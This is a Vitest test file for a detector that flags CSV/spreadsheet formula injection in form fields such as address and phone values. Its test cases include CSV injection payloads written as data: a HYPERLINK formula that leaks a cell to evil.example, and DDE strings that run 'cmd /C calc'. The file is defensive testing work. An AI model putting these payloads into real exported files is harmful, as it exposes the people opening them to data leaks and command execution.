import { describe, expect, it } from 'vitest';
import { formulaWarnings, looksLikeFormula } from '../../../src/domain/formula.js';
import { msg } from '../../../src/i18n/index.js';

describe('looksLikeFormula (OWASP, CSV injection)', () => {
  it.each([
    ['=1+1', true],
    ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', true],
    ["+cmd|' /C calc'!A0", true],
    ["-2+3+cmd|' /C calc'!A0", true],
    ["@SUM(1+1)*cmd|' /C calc'!A0", true],
    ['\t=1+1', true],
    ['\r=1+1', true],
    ['+55 11 98765-4321', true],
    ['-A1', true],
    ['--', true],
    // Plain numbers compute nothing; a phone Pix key keeps its "+".
    ['+5511987654321', false],
    ['-12', false],
    ['-1.234,56', false],
    ['-', false],
    // Anything not at the start is text.
    ['São Paulo', false],
    ['Apto 12 - Bloco B', false],
    [' =1+1', false],
    ['', false],
  ])('%j → %s', (text, expected) => {
    expect(looksLikeFormula(text)).toBe(expected);
  });
});

describe('formulaWarnings', () => {
  it('one per formula-looking text value, by its dotted path, the first character quoted; none where the value has an error', () => {
    const document = { idProposta: 'PROP-1', pessoa: { naturalidade: '=1+1', telefone: '+5511987654321', endereco: { rua: '\tx', complemento: '@A1', cep: '=1' } } };
    expect(formulaWarnings(document, [{ path: 'pessoa.endereco.cep', message: msg('rule.cep') }])).toEqual([
      { path: 'pessoa.naturalidade', message: msg('rule.formulaLike', { first: '"="' }) },
      { path: 'pessoa.endereco.rua', message: msg('rule.formulaLike', { first: '"\\t"' }) },
      { path: 'pessoa.endereco.complemento', message: msg('rule.formulaLike', { first: '"@"' }) },
    ]);
  });
});
